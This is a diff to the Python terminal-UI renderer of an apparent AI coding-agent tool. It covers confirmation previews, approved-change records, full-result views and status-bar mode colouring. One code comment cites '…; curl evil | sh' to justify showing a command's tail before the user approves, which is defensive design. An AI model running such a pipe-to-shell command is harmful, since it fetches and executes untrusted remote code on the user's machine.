@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import re
 from typing import assert_never
 
 from prompt_toolkit.formatted_text import FormattedText
 
 from dashfloat.catalogue import call_name, describe_change, summarize_call
 from dashfloat.protocol import ChangeRecorded, ConfirmRequested, ConfirmSubject, MalformedCall
+from dashfloat.ui._confirm import full_preview_lines, viewer_rows
 from dashfloat.ui._jobs_view import status_label
 from dashfloat.ui._markdown import render_markdown
 from dashfloat.ui._text import (
@@ -27,6 +29,7 @@ from dashfloat.ui.state import (
     ChangesTable,
     DecisionRecord,
     Entry,
+    FullResult,
     LiveOutput,
     Notice,
     Prose,
@@ -37,10 +40,17 @@ from dashfloat.ui.state import (
     ToolResult,
     UiState,
     UserPrompt,
-    full_preview_lines,
-    viewer_rows,
 )
 
+CONTINUATION_MARK = "↪ "
+"""Starts each further row of a long output line (a hanging indent that also says it: issue 37)."""
+EXPAND_KEYS = "Ctrl-O or /last"
+CHANGE_DIFF_SHOWN_LINES = 8
+"""Diff lines of an approved change kept in its record row (the person has just read them all)."""
+FULL_RESULT_MAX_LINES = 5000
+"""Lines /last draws (the executor's capture bounds a result already; this guards the screen)."""
+_HIDDEN_LINES = re.compile(r"… \d+ more lines?")
+"""The agent's marker for the lines between an excerpt's head and tail (agent/_summary.py)."""
 TOOL_OUTPUT_MAX_LINES = 30
 """Excerpt lines drawn under a result row (the agent already bounds it; this guards the screen)."""
 SUMMARY_MAX_CHARS = 500
@@ -63,6 +73,10 @@ WAITING_WORDS = "waiting for the model (prompt processing)"
 """The streaming phase before its first token: a local server may read the prompt for minutes."""
 WAITING_WORD = "waiting"
 """The same, on a narrow status bar."""
+CONFIRM_SCREEN_PERCENT = 60
+"""The inline preview (header, lines and key line) takes at most this share of the screen's rows (``v``: all)."""
+CONFIRM_MIN_ROWS = 6
+"""…but at least this many rows, when the screen has them."""
 CONFIRM_CALL_MIN_COLS = 48
 """A confirmation's header keeps this many columns (or the whole width) for the call, its tool and path or
 command, before the summary and the ``v`` key get any; from 88 columns on the summary has its 40."""
@@ -157,7 +171,11 @@ def _entry_rows(entry: Entry, width: int) -> list[Row]:
         case SessionTable():
             return _sessions_rows(entry, width)
         case ChangeRecord():
-            return _change_rows(entry.change, width, with_diff=entry.change.approved_by != "keypress")
+            if entry.approved_here:  # the approval's one row: the diff the person approved, collapsed (issue 37)
+                return _change_rows(entry.change, width, with_diff=True, shown=CHANGE_DIFF_SHOWN_LINES)
+            return _change_rows(entry.change, width, with_diff=entry.full or entry.change.approved_by != "keypress")
+        case FullResult():
+            return _full_result_rows(entry, width)
         case ChangesTable():
             return _changes_table(entry.changes, width)
         case _:
@@ -169,12 +187,32 @@ def change_line(change: ChangeRecorded) -> str:
     return describe_change(change.name, change.path, change.summary, change.approved_by, change.rule)
 
 
-def _change_rows(change: ChangeRecorded, width: int, with_diff: bool) -> list[Row]:
-    rows: list[Row] = [(("class:dim", "  "), ("class:tool", clip(sanitize(change_line(change)), max(1, width - 2))))]
+def _change_rows(change: ChangeRecorded, width: int, with_diff: bool, shown: int | None = None) -> list[Row]:
+    """The change's line, and its diff: all of it, or (an approval's record) its first ``shown`` lines and how to see
+    the rest."""
+    line = change_line(change)
+    if shown is not None:  # the one row of the person's own approval (issue 37)
+        line = line.replace("✎", "✓", 1).replace("approved by keypress", "approved by you")
+    rows: list[Row] = [(("class:dim", "  "), ("class:tool", clip(sanitize(line), max(1, width - 2))))]
     if with_diff:
-        for line in change.diff:
+        lines = change.diff if shown is None else change.diff[:shown]
+        for line in lines:
             rows.extend(((_diff_style(line), OUTPUT_INDENT + p),) for p in diff_line_rows(sanitize(line), width - 4))
+        if len(change.diff) > len(lines):
+            more = len(change.diff) - len(lines)
+            text = f"{OUTPUT_INDENT}… {more} more diff {'line' if more == 1 else 'lines'} · {EXPAND_KEYS} shows all"
+            rows.append((("class:dim", clip(text, width)),))
     return rows
+
+
+def _full_result_rows(entry: FullResult, width: int) -> list[Row]:
+    """/last: every line the agent kept of the newest result, under a row naming it."""
+    lines = entry.output.rstrip("\n").split("\n") if entry.output.strip() else []
+    head = f"  → {entry.status} · {entry.name} · all {len(lines)} {'line' if len(lines) == 1 else 'lines'} kept"
+    return [
+        (("class:dim", clip(sanitize(head), width)),),
+        *_verbatim(entry.output, width, "class:dim", FULL_RESULT_MAX_LINES),
+    ]
 
 
 def _changes_table(changes: tuple[ChangeRecorded, ...], width: int) -> list[Row]:
@@ -207,15 +245,25 @@ def _tool_row(glyph_style: str, call: ConfirmSubject | MalformedCall, width: int
     return ((glyph_style, "⚙ "), ("class:tool.name", name), ("class:dim", " " + clip(summary, room)))
 
 
-def _verbatim(text: str, width: int, style: str) -> list[Row]:
-    """Tool output as it is: never Markdown, lines broken by columns, at most the excerpt bound."""
+def _verbatim(text: str, width: int, style: str, max_lines: int = TOOL_OUTPUT_MAX_LINES) -> list[Row]:
+    """Tool output as it is: never Markdown, lines broken by columns, at most ``max_lines``.
+
+    A long line's further rows start with ``CONTINUATION_MARK`` under its text, so they never read as lines of
+    their own (issue 37); the excerpt's marker of lines not shown says how to see them."""
     lines = sanitize(text.rstrip("\n")).split("\n") if text.strip() else []
-    shown = lines[:TOOL_OUTPUT_MAX_LINES]
+    shown = lines[:max_lines]
     rows: list[Row] = []
     room = max(1, width - len(OUTPUT_INDENT))
     for line in shown:
-        pieces = soft_break(line, room)
-        rows.extend(((style, OUTPUT_INDENT + p),) for p in pieces)
+        if _HIDDEN_LINES.fullmatch(line):
+            rows.append(((style, clip(f"{OUTPUT_INDENT}{line} · {EXPAND_KEYS} shows all", width)),))
+            continue
+        first, *rest = soft_break(line, room)
+        rows.append(((style, OUTPUT_INDENT + first),))
+        if rest:
+            more_room = max(1, room - len(CONTINUATION_MARK))
+            for piece in soft_break("".join(rest), more_room):
+                rows.append(((style, OUTPUT_INDENT), ("class:dim", CONTINUATION_MARK), (style, piece)))
     if len(lines) > len(shown):
         more = len(lines) - len(shown)
         rows.append(((style, f"{OUTPUT_INDENT}… {more} more {'line' if more == 1 else 'lines'}"),))
@@ -271,6 +319,8 @@ def render_live(state: UiState, pending: tuple[Entry, ...], width: int) -> list[
         rows.extend(render_entry(entry, width))
     if state.held_call is not None:
         rows.extend(render_entry(state.held_call, width))
+    if state.held_decision is not None:  # an approval waiting to become its change's one row
+        rows.extend(render_entry(state.held_decision, width))
     budget = state.live_budget()
     if state.live_output is not None:
         rows.extend(_live_output_rows(state.live_output, state.now, width)[-budget:])
@@ -280,8 +330,14 @@ def render_live(state: UiState, pending: tuple[Entry, ...], width: int) -> list[
         open_rows = render_markdown(state.open_prose.rstrip(), width)[state.open_skip :]
         rows.extend(open_rows[-budget:])
     if state.confirm is not None:
-        rows.extend(_confirm_rows(state, width, budget))
+        rows.extend(confirm_block(state, width))
     return rows
+
+
+def confirm_block(state: UiState, width: int) -> list[Row]:
+    """The pending confirmation's live rows, less those a resize left in the terminal's history (never its keys)."""
+    block = _confirm_rows(state, width, state.live_budget())
+    return block[min(state.confirm_stranded, len(block) - 1) :]
 
 
 def _live_output_rows(live: LiveOutput, now: float, width: int) -> list[Row]:
@@ -321,7 +377,9 @@ def _confirm_rows(state: UiState, width: int, budget: int) -> list[Row]:
     body: list[Row] = []
     for line in confirm.lines:
         body.extend(((_diff_style(line), p),) for p in diff_line_rows(sanitize(line), width - 2))
-    room = max(1, budget - 2)
+    # At most a share of the screen (issue 37): a shorter window pushes the live region's top rows into the
+    # terminal's history, where they stay; a preview that fills the screen left copies of itself there.
+    room = max(1, min(budget, max(CONFIRM_MIN_ROWS, state.height * CONFIRM_SCREEN_PERCENT // 100)) - 2)
     if len(body) > room:
         # head and tail: what a command line or a diff ends with matters as much as how it starts
         # (`…; curl evil | sh` must be on screen when the user presses y)
@@ -506,9 +564,11 @@ def render_status(state: UiState, now: float, width: int, home: str | None) -> R
     if width_of(head) + rest > width:
         head = clip(head, max(1, width - rest))  # the phase's word before the safety labels
     row: list[Fragment] = [(phase_style, head)]
+    # Any mode but ask is coloured (issue 37): what runs without a key must not read like the rest of the bar.
+    mode_labels = {safety_labels(state, tier)[0] for tier in range(3)} if state.approval != "ask" else set()
     for seg in segments:
         row.append(("class:status.sep", sep))
-        row.append(("class:status", seg))
+        row.append((f"class:status.mode.{state.approval}" if seg in mode_labels else "class:status", seg))
     out: Row = tuple(row)
     if row_width(out) > width:
         out = ((phase_style, clip("".join(t for _, t in out), width)),)
